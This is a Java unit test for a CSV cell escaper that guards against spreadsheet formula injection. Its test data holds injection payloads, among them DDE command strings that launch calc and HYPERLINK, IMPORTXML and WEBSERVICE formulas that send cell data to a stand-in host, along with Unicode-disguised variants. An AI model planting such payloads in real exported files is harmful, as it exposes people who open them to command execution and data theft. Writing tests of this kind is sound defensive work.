package io.outpost.pipeline.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.math.BigDecimal;
import java.time.LocalDate;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class CsvCellTest {

  static List<String> formulas() {
    return List.of(
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")",
        "=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")",
        "=WEBSERVICE(\"http://x.example\")",
        "==1",
        "=",
        "+1+1",
        "+cmd|'/C calc'!A0",
        "++1",
        "-1+1",
        "-2+3+cmd|' /C calc'!A0",
        "--1",
        "-",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "@A1",
        "\t=1+1",
        "\tplain",
        "\r=1+1",
        "\rplain",
        "\n=1+1",
        "\0=1+1",
        "\0plain",
        "\uff1d1+1",
        "\uff0b1+1",
        "\uff0d1+1",
        "\uff20SUM(1)",
        " =1+1",
        "\u00a0=1+1",
        "\ufeff=1+1",
        "\u200b@SUM(1)",
        "\u3000\uff1d1",
        "\u2212cmd",
        "=\"\"\"a\"\"\"",
        "=a;=b,=c");
  }

  @ParameterizedTest
  @MethodSource("formulas")
  void takesTheFormulaOutOfText(String formula) {
    String cell = CsvCell.of(formula);
    assertThat(cell).startsWith("\"'").endsWith("\"");
    assertThat(CsvText.parse(cell + "\r\n")).containsExactly(List.of("'" + formula));
  }

  @ParameterizedTest
  @ValueSource(strings = {"plain", "a=b", "1-2", "mail@example.com", "", "'quoted'", "\"x\", y"})
  void leavesOtherTextAsItIs(String text) {
    assertThat(CsvText.parse(CsvCell.of(text) + "\r\n")).containsExactly(List.of(text));
  }

  @Test
  void quotesTextSoThatAnotherSeparatorStartsNoCell() {
    assertThat(CsvCell.of("a;=1+1\t=2")).isEqualTo("\"a;=1+1\t=2\"");
  }

  @Test
  void leavesNumbersNumbers() {
    assertThat(CsvCell.of(-1.5)).isEqualTo("-1.5");
    assertThat(CsvCell.of(-3L)).isEqualTo("-3");
    assertThat(CsvCell.of(LocalDate.of(2026, 3, 31))).isEqualTo("2026-03-31");
    assertThat(CsvCell.of(new BigDecimal("-1E+3"))).isEqualTo("-1000");
  }

  @Test
  void isEmptyForWhatIsMissingOrNoNumber() {
    assertThat(CsvCell.of(null)).isEmpty();
    assertThat(CsvCell.of(Double.NaN)).isEmpty();
    assertThat(CsvCell.of(Double.POSITIVE_INFINITY)).isEmpty();
  }

  @Test
  void joinsTheNumbersOfAnArray() {
    assertThat(CsvCell.of(List.of(-0.5, 2.0))).isEqualTo("\"[-0.5 2.0]\"");
  }
}
